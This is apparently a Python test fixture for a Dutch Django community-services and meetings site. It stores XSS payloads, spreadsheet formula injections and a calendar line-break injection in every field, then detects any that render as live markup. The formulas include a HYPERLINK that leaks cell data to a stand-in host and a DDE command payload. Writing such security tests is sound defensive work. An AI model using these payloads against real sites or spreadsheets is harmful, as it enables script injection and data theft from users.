"""A sociale kaart and meetings with script, markup and formulas in every text field.

Used by tests/test_vijandige_invoer.py (the server's answers) and
tests/browser/test_vijandige_invoer.py (what a browser makes of them). The data is written
straight to the database, past the forms' validation, as an import or an older version
could have written it: every page must be safe whatever is stored.
"""

import datetime
import html.parser
import re

from django.utils import timezone

from bijeenkomsten import services
from bijeenkomsten.models import Bijeenkomst, Programmaonderdeel
from netwerk.models import SiteConfiguratie
from organisaties.models import (
    Aanbod,
    Doelgroep,
    Locatie,
    Openingstijd,
    Organisatie,
    Soort,
    Thema,
    Wijk,
    Wijzigingsvoorstel,
)

SCRIPT = "<script>alert(1)</script>"
ATTRIBUUT = '"><img src=x onerror=alert(2)>'
SVG = "<svg onload=alert(3)>"
JS_URL = "javascript:alert(4)"
# Spreadsheet formulas (CSV injection): a link that leaks data, a command, plain arithmetic.
FORMULES = [
    '=HYPERLINK("http://example.invalid/?d="&A2,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
]
# A line break into the calendar: would start a second event if it were not escaped.
ICS_REGELS = "Eerste regel\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Nep"


def vijandig(label):
    """A text with every markup payload, and a label to find it back."""
    return f"{label} {SCRIPT} {ATTRIBUUT} {SVG}"


def maak_vijandige_gegevens():
    """Every object of the site with payloads in its text fields; returns the main ones."""
    site = SiteConfiguratie.get_solo()
    site.sitenaam = vijandig("Site")[:100]
    site.gemeentenaam = ATTRIBUUT
    site.introductie = vijandig("Introductie")
    site.over_tekst = vijandig("Over")
    site.privacy_tekst = vijandig("Privacy")
    site.toegankelijkheid_tekst = vijandig("Toegankelijkheid")
    site.contact_telefoon = '"><svg onload=alert(5)>'
    site.contact_email = "info@voorbeeld.nl"
    site.save()

    thema = Thema.objects.create(
        naam=vijandig("Thema"), slug="thema-vijandig", omschrijving=vijandig("Themauitleg")
    )
    doelgroep = Doelgroep.objects.create(
        naam=vijandig("Doelgroep"), slug="doelgroep-vijandig", omschrijving=ATTRIBUUT
    )
    soort = Soort.objects.create(naam=vijandig("Soort"), slug="soort-vijandig")
    wijk = Wijk.objects.create(
        naam=vijandig("Wijk"), slug="wijk-vijandig", omschrijving=SCRIPT, cbs_code="<b>x</b>"
    )
    organisatie = Organisatie.objects.create(
        naam=vijandig("Organisatie"),
        slug="organisatie-vijandig",
        soort=soort,
        omschrijving=vijandig("Omschrijving") + "\n\n" + SCRIPT,
        website=JS_URL,
        email='"><img src=x onerror=alert(6)>@voorbeeld.nl',
        telefoon='"><svg onload=alert(7)>',
        status=Organisatie.Status.GEPUBLICEERD,
        laatst_geverifieerd=timezone.localdate(),
    )
    organisatie.themas.set([thema])
    organisatie.wijken.set([wijk])
    # The name people type "Xss" for in the organisation field of the registration form.
    Organisatie.objects.create(
        naam="Xss<img src=x onerror=alert(1)>",
        slug="organisatie-xss",
        soort=soort,
        omschrijving="Naam met opmaak.",
        status=Organisatie.Status.GEPUBLICEERD,
    )
    locatie = Locatie.objects.create(
        organisatie=organisatie,
        naam=vijandig("Locatie"),
        adres=vijandig("Adres"),
        postcode="<i>x",
        plaats=ATTRIBUUT,
        wijk=wijk,
        toegankelijkheid=vijandig("Toegankelijkheid"),
    )
    Openingstijd.objects.create(
        locatie=locatie, dag=1, van="09:00", tot="17:00", opmerking=vijandig("Opmerking")
    )
    aanbod = Aanbod.objects.create(
        organisatie=organisatie,
        naam=vijandig("Aanbod"),
        omschrijving=vijandig("Aanbodomschrijving"),
        kosten=Aanbod.Kosten.GRATIS,
        kosten_toelichting=vijandig("Kosten")[:200],
        hoe_aanmelden=vijandig("Aanmelden"),
    )
    aanbod.themas.set([thema])
    aanbod.doelgroepen.set([doelgroep])
    aanbod.locaties.set([locatie])
    Wijzigingsvoorstel.objects.create(
        organisatie=organisatie,
        toelichting=vijandig("Melding"),
        naam=vijandig("Melder"),
        email="melder@voorbeeld.nl",
    )

    bijeenkomst = Bijeenkomst.objects.create(
        titel=vijandig("Bijeenkomst"),
        slug="bijeenkomst-vijandig",
        omschrijving=vijandig("Bijeenkomstomschrijving") + "\n" + ICS_REGELS,
        # Starts within the hour, so that check-in at the door is open (below).
        start=timezone.now() + datetime.timedelta(hours=1),
        einde=timezone.now() + datetime.timedelta(hours=3),
        locatie_naam=vijandig("Zaal"),
        adres=vijandig("Bijeenkomstadres"),
        capaciteit=len(FORMULES),
        status=Bijeenkomst.Status.GEPUBLICEERD,
    )
    bijeenkomst.themas.set([thema])
    Programmaonderdeel.objects.create(
        bijeenkomst=bijeenkomst,
        tijd="09:30",
        titel=vijandig("Onderdeel"),
        omschrijving=vijandig("Onderdeeluitleg"),
    )
    verleden = Bijeenkomst.objects.create(
        titel=vijandig("Verleden"),
        slug="verleden-vijandig",
        omschrijving=vijandig("Terugblik"),
        start=timezone.now() - datetime.timedelta(days=10),
        einde=timezone.now() - datetime.timedelta(days=10, hours=-2),
        locatie=locatie,
        capaciteit=10,
        status=Bijeenkomst.Status.GEPUBLICEERD,
        verslag=vijandig("Verslag"),
        vervolg_op=bijeenkomst,
    )
    verleden.themas.set([thema])

    # Registrations through the service (which writes the e-mails), past the form: each one
    # with a formula where a spreadsheet would read it, and markup everywhere else.
    aanmeldingen = []
    for nummer, formule in enumerate(FORMULES):
        aanmeldingen.append(
            services.aanmelden(
                bijeenkomst,
                naam=formule if nummer else vijandig("Deelnemer"),
                email=f"deelnemer{nummer}@voorbeeld.nl",
                organisatie=organisatie if nummer == 1 else None,
                organisatie_naam=formule if nummer != 1 else "",
                functie=formule if nummer else vijandig("Functie"),
                dieetwensen=formule if nummer else vijandig("Dieet"),
                toegankelijkheidsbehoeften=formule if nummer else vijandig("Nodig"),
            )
        )
    wachtend = services.aanmelden(
        bijeenkomst,
        naam=vijandig("Wachtende"),
        email="wachtende@voorbeeld.nl",
        organisatie_naam=vijandig("Wachtorganisatie"),
    )
    services.inchecken(aanmeldingen[0])
    services.annuleren(aanmeldingen[-1])  # the person waiting gets the place: one more e-mail
    services.verplaatsen(aanmeldingen[1], "wachtlijst", reden=vijandig("Reden"), door=None)
    services.verstuur_herinneringen(dagen=30)
    verleden_aanmelding = services.aanmelden(
        verleden,
        naam=vijandig("Oud"),
        email="oud@voorbeeld.nl",
        organisatie=organisatie,
        door=_iemand(),
    )
    return {
        "organisatie": organisatie,
        "thema": thema,
        "wijk": wijk,
        "bijeenkomst": bijeenkomst,
        "verleden": verleden,
        "aanmelding": aanmeldingen[0],
        "wachtend": wachtend,
        "verleden_aanmelding": verleden_aanmelding,
    }


def _iemand():
    from tests.factories import GebruikerFactory

    return GebruikerFactory(username="coordinator-vijandig", groepen=["Coördinator"])


# What may never come out of stored text: elements and attributes that run script.
_GEVAARLIJKE_URL = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.IGNORECASE)


class _Zoeker(html.parser.HTMLParser):
    """Collects every place in an HTML page where stored text became markup."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.gevonden = []
        self.tekst = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attributen = dict(attrs)
        if tag == "script":
            # JSON-LD is data, never run: its text is checked by the JSON-LD tests.
            uitvoerbaar = attributen.get("type") != "application/ld+json"
            if uitvoerbaar and "src" not in attributen:
                self.gevonden.append(f"inline <script> {attrs}")
            self._in_script = uitvoerbaar
        for naam, waarde in attrs:
            if naam.startswith("on"):
                self.gevonden.append(f"<{tag} {naam}={waarde!r}>")
            if naam in ("href", "src", "action", "formaction") and _GEVAARLIJKE_URL.match(
                waarde or ""
            ):
                self.gevonden.append(f"<{tag} {naam}={waarde!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.gevonden.append(f"script met {data[:80]!r}")
        self.tekst.append(data)


def markup_uit_gegevens(inhoud):
    """(places where stored text became markup, the page's visible text)."""
    zoeker = _Zoeker()
    zoeker.feed(inhoud)
    zoeker.close()
    return zoeker.gevonden, " ".join(zoeker.tekst)
